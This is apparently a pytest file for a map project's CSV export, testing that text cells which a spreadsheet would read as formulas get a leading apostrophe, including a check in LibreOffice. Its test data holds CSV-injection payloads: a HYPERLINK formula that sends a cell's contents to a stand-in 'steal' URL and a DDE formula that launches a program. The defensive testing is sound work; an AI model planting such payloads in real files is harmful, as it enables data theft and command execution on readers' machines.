"""No CSV the map writes can run a formula in a spreadsheet (OWASP's rule for CSV injection).

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula: ``=HYPERLINK(...)`` makes a link that
sends the reader elsewhere, ``=cmd|' /C calc'!A0`` asks to run a program. Every such cell of
the events, control and movements CSV (the command line's and the app's download) gets a
leading apostrophe; numbers stay numbers; GeoJSON carries the text as it is.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from kr_map.cli import main
from kr_map.export import (
    FORMULA_STARTS,
    events_csv,
    events_table,
    spreadsheet_cell,
    table_csv,
)
from kr_map.loader import load

from .hostile import mirror_translations

HYPERLINK = '=HYPERLINK("http://example.com/steal?x="&A1,"Click for the source")'
DDE = "=cmd|' /C calc'!A0"
FORMULAS = {
    ("events.csv", "title"): HYPERLINK,
    ("events.csv", "summary"): DDE,
    ("places.csv", "name"): "+1+1",
    ("factions.csv", "name"): "@SUM(1+1)",
    ("control.csv", "summary"): "-2+3",
    ("movements.csv", "summary"): "=1+1",
}
QUOTE = "=2*21 is what the source says"


def _rewrite(path: Path, change) -> None:
    with open(path, encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    for row in rows:
        change(row)
    with open(path, "w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def with_formulas(data_dir: Path) -> Path:
    """Put a formula into one text column of every table, and into one quote (and its seed)."""
    for (name, column), formula in FORMULAS.items():
        _rewrite(data_dir / name, lambda row, c=column, f=formula: row.update({c: f}))
    seed = data_dir.parent / "seeds" / "battle_of_pailin.txt"
    seed.write_text(seed.read_text(encoding="utf-8") + "\n" + QUOTE + "\n", encoding="utf-8")
    _rewrite(data_dir / "events.csv", lambda row: row.update(seed=seed.name, quote=QUOTE))
    mirror_translations(data_dir)
    return data_dir


@pytest.fixture
def formula_data(data_copy: Path) -> Path:
    return with_formulas(data_copy)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", DDE])
def test_a_text_cell_that_would_start_a_formula_gets_a_leading_apostrophe(value):
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Pailin", "", " =1", "'=1", 12.5, -3, None])
def test_other_cells_and_numbers_are_kept_as_they_are(value):
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize("table", ["events", "control", "movements"])
def test_the_command_line_csv_has_no_cell_a_spreadsheet_would_run(formula_data, tmp_path, table):
    out = tmp_path / f"{table}.csv"
    assert main(["export", str(out), "--table", table, "--data", str(formula_data)]) == 0
    rows = cells(out.read_text(encoding="utf-8"))
    assert rows[1:], "the export has rows"
    starting = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert starting == []
    guarded = {cell for row in rows for cell in row if cell.startswith("'")}
    assert guarded, "the formulas of the data are in the table, made inert"


def test_each_formula_of_the_data_reaches_the_csv_with_only_an_apostrophe_added(formula_data):
    text = events_csv(load(formula_data))
    flat = [cell for row in cells(text) for cell in row]
    for formula in (HYPERLINK, DDE, "+1+1", QUOTE):
        assert "'" + formula in flat
    control = [cell for row in cells(table_csv(load(formula_data), "control")) for cell in row]
    assert "'-2+3" in control and "'@SUM(1+1)" in control


def test_the_geojson_carries_the_text_as_it_is(formula_data, tmp_path):
    out = tmp_path / "events.geojson"
    assert main(["export", str(out), "--data", str(formula_data)]) == 0
    properties = [f["properties"] for f in json.loads(out.read_text())["features"]]
    titles = {p.get("title") for p in properties}
    assert HYPERLINK in titles and "'" + HYPERLINK not in titles


def test_the_bundled_data_exports_unchanged_by_the_guard(dataset):
    plain = events_table(dataset).to_csv(index=False, lineterminator="\n")
    assert events_csv(dataset) == plain


def test_the_apps_events_download_is_the_guarded_csv():
    source = (Path(__file__).resolve().parents[1] / "app.py").read_text(encoding="utf-8")
    assert "export.events_csv(" in source


# --- A real spreadsheet engine -----------------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
# LibreOffice's CSV import options: comma, double quote, UTF-8, from line 1, standard
# columns, English (US), quoted fields as text: no, detect special numbers: yes, then
# "evaluate formulas": yes (the 13th token), as a spreadsheet that runs formulas would.
CSV_IMPORT = "CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true"


def open_in_libreoffice(csv_path: Path, out_dir: Path) -> tuple[int, list[str]]:
    """Return how many formula cells LibreOffice made of a CSV file, and every cell's text."""
    profile = out_dir / "profile"
    subprocess.run(
        [SOFFICE, f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
         f"--infilter={CSV_IMPORT}", "--convert-to", "ods", "--outdir", str(out_dir),
         str(csv_path)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    with zipfile.ZipFile(out_dir / f"{csv_path.stem}.ods") as ods:
        content = ods.read("content.xml").decode("utf-8")
    from xml.etree import ElementTree

    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    root = ElementTree.fromstring(content)
    formulas = sum(1 for cell in root.iter(f"{{{table}}}table-cell")
                   if cell.get(f"{{{table}}}formula"))  # fmt: skip
    texts = ["".join(p.itertext()) for p in root.iter(f"{{{text}}}p")]
    return formulas, texts


@pytest.mark.spreadsheet
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_evaluates_no_formula_of_the_exported_csv(formula_data, tmp_path):
    # The engine and its options do run formulas: a raw CSV with one is evaluated...
    raw = tmp_path / "raw" / "raw.csv"
    raw.parent.mkdir()
    raw.write_text('title,n\n"=1+1",1\n', encoding="utf-8")
    formulas, texts = open_in_libreoffice(raw, raw.parent)
    assert formulas == 1 and "2" in texts
    # ... and the export of data full of formulas has none.
    out = tmp_path / "export" / "events.csv"
    out.parent.mkdir()
    assert main(["export", str(out), "--data", str(formula_data)]) == 0
    formulas, texts = open_in_libreoffice(out, out.parent)
    assert formulas == 0
    shown = " ".join(texts)
    assert "HYPERLINK" in shown and "cmd|" in shown and "=2*21" in shown
